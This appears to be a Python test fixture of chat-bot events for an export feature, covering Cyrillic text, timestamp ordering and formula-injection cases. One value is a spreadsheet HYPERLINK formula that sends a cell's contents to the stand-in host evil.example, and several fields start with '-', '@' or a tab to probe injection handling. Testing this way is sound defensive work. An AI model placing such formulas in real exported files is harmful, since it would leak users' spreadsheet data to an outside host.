"""Events for the export tests: Cyrillic, formula-injection attempts, extras, local and naive times."""

from __future__ import annotations

from typing import Any

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'
REPLY = "Здравствуйте! Запишу вас на 18:00 😊\nДо встречи; ждём вас"

# In the sending order, which is not the time order; the period is 2025-03-10..2025-03-11 in Moscow.
EXPORT_EVENTS: list[dict[str, Any]] = [
    {
        "timestamp": "2025-03-11T12:00:00+03:00",
        "event": "payment_status",
        "user_id": "tg_1",
        "channel": "telegram",
        "status": "paid",
        "amount": -500.5,
        "currency": "RUB",
        "appointment_at": "2025-03-12T18:00:00+03:00",
    },
    {
        "timestamp": "2025-03-10T09:15:00.250+03:00",
        "event": "message_received",
        "user_id": "tg_1",
        "channel": "telegram",
        "name": "Анна Петрова",
        "phone": "+79991234567",
        "location": "Баумана",
        "message": HYPERLINK,
        "utm_source": "вконтакте",
        "visit": {"n": 2, "from": "реклама"},
    },
    {"timestamp": "2025-03-09T23:59:59+03:00", "event": "message_received", "user_id": "tg_early"},
    {
        "timestamp": "2025-03-10T23:30:00+03:00",
        "event": "lead_created",
        "user_id": "wa_2",
        "channel": "whatsapp",
        "crm_id": "@crm_7",
        "name": "-Иван",
        "reason": "\tтаб впереди",
        "message": "звонок\x07 дзынь",
    },
    {
        "timestamp": "2025-03-10T09:15:02+03:00",
        "event": "assistant_response",
        "user_id": "tg_1",
        "channel": "telegram",
        "assistant_response": REPLY,
        "intent": "booking.request",
        "confidence": 0.92,
        "response_time_ms": 1800,
        "lat": "55.7887",
        "lon": "49.1221",
    },
    {"timestamp": "2025-03-12T00:00:00+03:00", "event": "message_received", "user_id": "tg_late"},
    # Naive: read in the configured zone (Moscow), so 08:00 local.
    {"timestamp": "2025-03-11T08:00:00", "event": "no_show", "user_id": "wa_2", "channel": "whatsapp"},
]

# The five events inside the period, in time order, as local ISO times.
EXPECTED_TIMES = [
    "2025-03-10T09:15:00.250+03:00",
    "2025-03-10T09:15:02.000+03:00",
    "2025-03-10T23:30:00.000+03:00",
    "2025-03-11T08:00:00.000+03:00",
    "2025-03-11T12:00:00.000+03:00",
]
EXPECTED_EVENTS = ["message_received", "assistant_response", "lead_created", "no_show", "payment_status"]
